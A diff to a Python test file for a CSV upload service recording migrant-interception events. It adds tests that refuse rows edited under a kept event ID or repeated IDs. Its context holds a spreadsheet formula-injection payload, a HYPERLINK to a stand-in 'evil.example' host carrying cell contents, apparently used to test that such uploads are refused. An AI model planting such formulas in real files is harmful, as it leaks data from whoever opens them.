@@ -5,12 +5,14 @@ from __future__ import annotations
 
 import csv
 import io
+from collections.abc import Sequence
 from pathlib import Path
 from typing import Any
 
 from producers import forms
 from producers.pseudonym import Pseudonymiser
-from schemas.model import Agency
+from producers.publisher import content_digest
+from schemas.model import Agency, Event
 from sinergi.web.uploads import UploadJob, Uploads, refused_csv
 
 HEADER = "occurred_at,nik,sex,origin_regency,destination_country,outcome,recruiter"
@@ -18,8 +20,21 @@ FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
 
 
 class Recorder:
+    """The desk of the real recorder, with the records it kept before in ``held``."""
+
+    def __init__(self, held: Sequence[Event] = ()) -> None:
+        self.held = {e.event_id: content_digest(e) for e in held}
+
     def desk(self, agency: Agency, unit: str) -> forms.Desk:
         return forms.desk_for(agency, unit, Pseudonymiser(b"k" * 32))
+
+    def recorded_before(self, unit: str, events: Sequence[Event]) -> list[str]:
+        seen: dict[str, str | None] = dict(self.held)
+        found = set()
+        for e in events:
+            if seen.setdefault(e.event_id, content_digest(e)) != content_digest(e):
+                found.add(e.event_id)
+        return sorted(found)
 
 
 class Inline(Uploads):
@@ -27,8 +42,8 @@ class Inline(Uploads):
         work()  # the check at once, not in a thread
 
 
-def upload(tmp_path: Path, text: str) -> UploadJob:
-    uploads = Inline(Recorder(), tmp_path)  # type: ignore[arg-type]
+def upload(tmp_path: Path, text: str, held: Sequence[Event] = ()) -> UploadJob:
+    uploads = Inline(Recorder(held), tmp_path)  # type: ignore[arg-type]
     return uploads.start(
         username="eltari", officer_code="ELT-07", unit="post-eltari", agency=Agency.POST,
         form_name="interception", filename="rows.csv", data=text.encode(),
@@ -66,3 +81,25 @@ def test_the_refused_file_put_right_comes_back_as_it_was_typed(tmp_path):
                    "SENT_HOME,+62 812 3456 7890\n")  # fmt: skip
     # the same recruiter, pseudonymised the same way as when typed in the first place
     assert accepted.event.recruiter_ref == typed.accepted[0].event.recruiter_ref  # type: ignore[attr-defined]
+
+
+def test_an_edited_row_under_a_kept_id_and_one_id_twice_in_a_file_are_refused(tmp_path):
+    kept_id, twice = "0b3c2f4e-1111-4222-8333-444455556666", "0b3c2f4e-1111-4222-8333-777777777777"
+    header = "event_id," + HEADER
+    row = "{},2026-01-20T08:30,5302014101900001,P,5302,MY,{},"
+    first = upload(tmp_path, header + "\n" + row.format(kept_id, "SENT_HOME") + "\n")
+    [kept] = first.accepted
+    rows = [
+        row.format(kept_id, "HANDED_TO_POLICE"),  # row 2: edited since it was kept
+        row.format(twice, "SENT_HOME"),  # rows 3 and 4: one id, two contents
+        row.format(twice, "HANDED_TO_POLICE"),
+        row.format("", "SENT_HOME").replace("5302014101900001", "5302015203850002", 1),
+    ]
+    job = upload(tmp_path, "\n".join([header, *rows]) + "\n", held=[kept.event])
+    assert job.phase == "validated"
+    assert [r.row for r in job.refused] == [2, 3, 4] and [a.row for a in job.accepted] == [5]
+    problem = job.refused[0].problems[0]
+    assert problem.field == "event_id" and "corrected, never edited" in problem.message
+    again = upload(tmp_path, header + "\n" + row.format(kept_id, "SENT_HOME") + "\n",
+                   held=[kept.event])  # fmt: skip
+    assert (len(again.accepted), again.refused) == (1, [])  # the same record: kept once
